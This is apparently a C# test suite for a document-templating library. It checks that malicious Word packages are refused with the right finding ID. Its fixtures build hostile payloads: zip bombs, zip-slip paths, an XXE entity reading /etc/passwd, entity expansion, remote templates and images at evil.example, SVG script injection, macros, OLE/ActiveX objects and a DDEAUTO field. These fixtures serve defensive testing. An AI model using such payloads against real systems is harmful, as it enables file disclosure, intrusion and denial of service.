using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Documents.Templating.Tests.Files;

namespace Documents.Templating.Tests.Packages;

/// <summary>Files made to harm: each is refused for what it is, fast, and with a sentence that says what to do.</summary>
[Collection(AloneCollection.Name)]
public sealed class HostilePackageTests
{
    private const string Relationships = TestPackage.OfficeRelationships;

    private static readonly Dictionary<string, (string Id, Func<byte[]> Make)> Packages = new()
    {
        ["zip bomb in a picture"] = ("package.inflates-too-much", () => Word().With("word/media/image1.png", new byte[120 << 20]).Zip()),
        ["zip bomb in the document"] = ("package.inflates-too-much", () => Word($"<!--{new string(' ', 100 << 20)}-->").Zip()),
        ["zip bomb that lies about its size"] = ("package.inflates-too-much", () => WithDeclaredLength(Word().With("word/media/image1.png", new byte[60 << 20]).Zip(), "word/media/image1.png", 1000)),
        ["many bombs that are each small enough"] = ("package.inflates-too-much", ManyBombs),
        ["part that grows a thousandfold"] = ("package.inflates-too-much", () => Word().With("word/media/image1.bin", new byte[20 << 20]).Zip()),
        ["tag of a million attributes"] = ("package.inflates-too-much", () => Word($"<w:p {string.Concat(Enumerable.Range(0, 1_000_000).Select(index => $" a{index}=\"\""))}/>").Zip()),
        ["million different names"] = ("package.inflates-too-much", () => Word(string.Concat(Enumerable.Range(0, 1_000_000).Select(index => $"<a{index}/>"))).Zip()),
        ["endless list of relationships"] = ("package.inflates-too-much", EndlessRelationships),
        ["picture of 30,000 pixels (PNG)"] = ("package.inflates-too-much", () => Word().With("word/media/image1.png", Png(30_000, 10)).Zip()),
        ["picture of 30,000 pixels (GIF)"] = ("package.inflates-too-much", () => Word().With("word/media/image1.gif", Gif(10, 30_000)).Zip()),
        ["picture of 30,000 pixels (JPEG)"] = ("package.inflates-too-much", () => Word().With("word/media/image1.jpeg", Jpeg(30_000, 30_000)).Zip()),
        ["24,000 content controls in one another"] = ("package.too-deep", () => Word(Nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 24_000)).Zip()),
        ["300 tables in one another"] = ("package.too-deep", () => Word(Nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 300)).Zip()),
        ["fields in one another without end"] = ("package.too-deep", () => Word(Nested("<w:fldChar w:fldCharType=\"begin\"/>", "", 10_000)).Zip()),
        ["65,000 parts"] = ("package.too-many-parts", () => ManyParts(65_000)),
        ["the document twice"] = ("package.duplicate-part", () => Word().WithAlso("word/document.xml", "<x/>"u8.ToArray()).Zip()),
        ["the document twice in other letters"] = ("package.duplicate-part", () => Word().WithAlso("WORD/Document.XML", "<x/>"u8.ToArray()).Zip()),
        ["zip slip"] = ("package.unsafe-part-name", () => Word().With("word/../../../etc/cron.d/x", "x").Zip()),
        ["zip slip, encoded"] = ("package.unsafe-part-name", () => Word().With("word/%2e%2e/%2e%2e/x", "x").Zip()),
        ["absolute name"] = ("package.unsafe-part-name", () => Word().With("/word/x.xml", "<x/>").Zip()),
        ["back slashes"] = ("package.unsafe-part-name", () => Word().With(@"word\x.xml", "<x/>").Zip()),
        ["drive letter"] = ("package.unsafe-part-name", () => Word().With("c:x.xml", "<x/>").Zip()),
        ["line break in a name"] = ("package.unsafe-part-name", () => Word().With("word/a\nb.xml", "<x/>").Zip()),
        ["external entity"] = ("package.doctype", () => Word().With("word/document.xml", """<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>""").Zip()),
        ["entities that expand"] = ("package.doctype", () => Word().With("word/styles.xml", """<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>""").Zip()),
        ["DTD in UTF-16"] = ("package.doctype", () => Word().With("word/styles.xml", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes("<!DOCTYPE x><x/>")).ToArray()).Zip()),
        ["DTD in relationships"] = ("package.doctype", () => Word().With("word/_rels/document.xml.rels", "<!DOCTYPE x><x/>").Zip()),
        ["DTD in content types"] = ("package.doctype", () => Word().With("[Content_Types].xml", "<!DOCTYPE x><x/>").Zip()),
        ["template on a web server"] = ("package.external-target", () => Word().WithRelationship("attachedTemplate", "https://evil.example/a.dotm", external: true, source: "word/settings.xml").Zip()),
        ["template on a file server"] = ("package.external-target", () => Word().WithRelationship("attachedTemplate", "file:///\\\\evil.example\\share\\a.dotm", external: true, source: "word/settings.xml").Zip()),
        ["picture on a web server"] = ("package.external-target", () => Word().WithRelationship("image", "https://evil.example/a.png", external: true).Zip()),
        ["picture on a web server, said to be inside"] = ("package.external-target", () => Word().WithRelationship("image", "https://evil.example/a.png").Zip()),
        ["picture on a web server, by its drawing"] = ("package.external-target", () => Word("""<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/a.png"/>""").Zip()),
        ["frame"] = ("package.external-target", () => Word().WithRelationship("frame", "https://evil.example/", external: true, source: "word/webSettings.xml").Zip()),
        ["mail merge list"] = ("package.external-target", () => Word().WithRelationship("mailMergeSource", "file:///C:\\clients.mdb", external: true, source: "word/settings.xml").Zip()),
        ["linked object"] = ("package.external-target", () => Word().WithRelationship("oleObject", "https://evil.example/a.rtf", external: true).Zip()),
        ["drawing with a script"] = ("package.external-target", () => Svg("<script>alert(1)</script>")),
        ["drawing with a script in an attribute"] = ("package.external-target", () => Svg("""<rect onclick="alert(1)"/>""")),
        ["drawing that loads a picture"] = ("package.external-target", () => Svg("""<image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="https://evil.example/a.png"/>""")),
        ["drawing that loads by its style"] = ("package.external-target", () => Svg("<style>rect { fill: url('https://evil.example/a.svg#x') }</style>")),
        ["object of another program"] = ("package.embedded-object", () => Word().With("word/embeddings/oleObject1.bin", "x").WithRelationship("oleObject", "embeddings/oleObject1.bin").Zip()),
        ["object of another program in a Strict document"] = ("package.embedded-object", () => Word().With("word/embeddings/oleObject1.bin", "x").WithRelationship(TestPackage.StrictRelationships + "oleObject", "embeddings/oleObject1.bin").Zip()),
        ["file that nothing points to"] = ("package.embedded-object", () => Word().With("word/embeddings/oleObject1.bin", "x").Zip()),
        ["object under another name"] = ("package.embedded-object", () => Word().With("word/media/x.bin", "x").WithType("word/media/x.bin", "application/vnd.openxmlformats-officedocument.oleObject").Zip()),
        ["ActiveX control"] = ("package.embedded-object", () => Word().With("word/activeX/activeX1.xml", "<x/>").With("word/activeX/activeX1.bin", "x").WithRelationship("control", "activeX/activeX1.xml").Zip()),
        ["workbook that is no chart's"] = ("package.embedded-object", () => Word().With("word/embeddings/a.xlsx", "x").WithRelationship("package", "embeddings/a.xlsx").Zip()),
        ["chart whose workbook has macros"] = ("package.embedded-object", () => ChartPackages.Word("xl/vbaProject.bin")),
        ["chart whose workbook is no workbook"] = ("package.embedded-object", () => ChartPackages.Word(workbook: "MZ"u8.ToArray())),
        ["macros renamed to .docx"] = ("package.macros", () => Word(type: "application/vnd.ms-word.document.macroEnabled.main+xml").With("word/vbaProject.bin", "x").WithRelationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin").Zip()),
        ["template with macros"] = ("package.macros", () => Word(type: "application/vnd.ms-word.template.macroEnabledTemplate.main+xml").Zip()),
        ["macros under another name"] = ("package.macros", () => Word().With("word/media/x.bin", "x").WithType("word/media/x.bin", "application/vnd.ms-office.vbaProject").Zip()),
        ["altChunk"] = ("package.foreign-content", () => Word("<w:altChunk r:id=\"rId1\"/>").With("word/chunk.xml", "not <xml").WithRelationship("aFChunk", "chunk.xml").Zip()),
        ["subdocument"] = ("package.foreign-content", () => Word("<w:subDoc r:id=\"rId1\"/>").WithRelationship("subDocument", "file:///C:\\a.docx", external: true).Zip()),
        ["encrypted entry"] = ("package.encrypted", () => WithFlag(Word().Zip(), 1)),
        ["password (OLE)"] = ("package.encrypted", () => CompoundFile("EncryptedPackage")),
        ["old .doc"] = ("package.not-a-word-document", () => CompoundFile("WordDocument")),
    };

    public static TheoryData<string> Names => [.. Packages.Keys];

    [Theory]
    [MemberData(nameof(Names))]
    public void Hostile_package_is_refused(string name)
    {
        var (id, make) = Packages[name];
        var run = GateRun.Of(make());
        Assert.False(run.Admitted);
        Assert.Equal([id], run.Ids);
    }

    [Fact]
    public void Fifty_findings_are_enough()
    {
        var package = Word();
        for (var link = 0; link < 500; link++)
        {
            package.WithRelationship("hyperlink", $"file:///server{link}/x", external: true);
        }

        Assert.Equal(50, GateRun.Of(package.Zip()).Found.Count);
    }

    [Fact]
    public void Everything_is_told_at_once()
    {
        var run = GateRun.Of(Word("<w:fldSimple w:instr=\"DDEAUTO c:\\x\"/><w:altChunk r:id=\"rId9\"/>")
            .WithRelationship("image", "https://evil.example/a.png", external: true)
            .With("word/embeddings/a.bin", "x")
            .With("word/styles.xml", "<broken")
            .Zip());
        Assert.Equal(
            ["package.damaged", "package.dangerous-field", "package.embedded-object", "package.external-target", "package.foreign-content"],
            run.Ids);
    }

    private static TestPackage Word(string body = "<w:p/>", string type = TestPackage.MainType) => TestPackage.Word(body, type);

    private static string Nested(string open, string close, int depth) =>
        string.Concat(Enumerable.Repeat(open, depth)) + string.Concat(Enumerable.Repeat(close, depth));

    private static byte[] Svg(string content) =>
        Word().With("word/media/image1.svg", $"""<svg xmlns="http://www.w3.org/2000/svg">{content}</svg>""").Zip();

    private static byte[] ManyParts(int count)
    {
        var package = Word();
        for (var part = 0; part < count; part++)
        {
            package.WithAlso($"word/media/{part}.bin", []);
        }

        return package.Zip(CompressionLevel.NoCompression);
    }

    private static byte[] ManyBombs()
    {
        // Not quite empty pages, so that each stays within the ratio.
        var page = new byte[20 << 20];
        for (var index = 0; index < page.Length; index += 97)
        {
            page[index] = (byte)(index / 97 * 31);
        }

        var package = Word();
        for (var part = 0; part < 12; part++)
        {
            package.With($"word/media/{part}.bin", page);
        }

        return package.Zip(CompressionLevel.Fastest);
    }

    private static byte[] EndlessRelationships()
    {
        var package = Word();
        for (var link = 0; link < 100_000; link++)
        {
            package.WithRelationship("hyperlink", $"https://example.org/{link * 7919}", external: true);
        }

        return package.Zip();
    }

    private static byte[] Png(int width, int height)
    {
        var bytes = new byte[100];
        bytes[0] = 0x89;
        "PNG\r\n\u001A\n"u8.CopyTo(bytes.AsSpan(1));
        "IHDR"u8.CopyTo(bytes.AsSpan(12));
        BinaryPrimitives.WriteInt32BigEndian(bytes.AsSpan(16), width);
        BinaryPrimitives.WriteInt32BigEndian(bytes.AsSpan(20), height);
        return bytes;
    }

    private static byte[] Gif(ushort width, ushort height)
    {
        var bytes = new byte[100];
        "GIF89a"u8.CopyTo(bytes);
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(6), width);
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(8), height);
        return bytes;
    }

    /// <summary>A JPEG whose size stands behind 100 KB of other segments, as after a camera's own notes.</summary>
    private static byte[] Jpeg(ushort width, ushort height)
    {
        var notes = new byte[50_000];
        notes[0] = 0xFF;
        notes[1] = 0xE1;
        BinaryPrimitives.WriteUInt16BigEndian(notes.AsSpan(2), (ushort)(notes.Length - 2));
        byte[] frame = [0xFF, 0xC2, 0, 17, 8, (byte)(height >> 8), (byte)height, (byte)(width >> 8), (byte)width, 3, 0, 0, 0];
        return [0xFF, 0xD8, .. notes, 0xFF, .. notes, .. frame];
    }

    private static byte[] CompoundFile(string stream) =>
        [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[1016], .. Encoding.Unicode.GetBytes("Root Entry"), .. new byte[100], .. Encoding.Unicode.GetBytes(stream), .. new byte[512]];

    private static byte[] WithFlag(byte[] zip, byte flag)
    {
        foreach (var entry in ZipBytes.CentralEntries(zip))
        {
            zip[entry + 8] |= flag;
        }

        return zip;
    }

    private static byte[] WithDeclaredLength(byte[] zip, string name, int length)
    {
        foreach (var entry in ZipBytes.CentralEntries(zip).Where(entry => ZipBytes.NameAt(zip, entry) == name))
        {
            BinaryPrimitives.WriteInt32LittleEndian(zip.AsSpan(entry + 24), length);
        }

        return zip;
    }
}
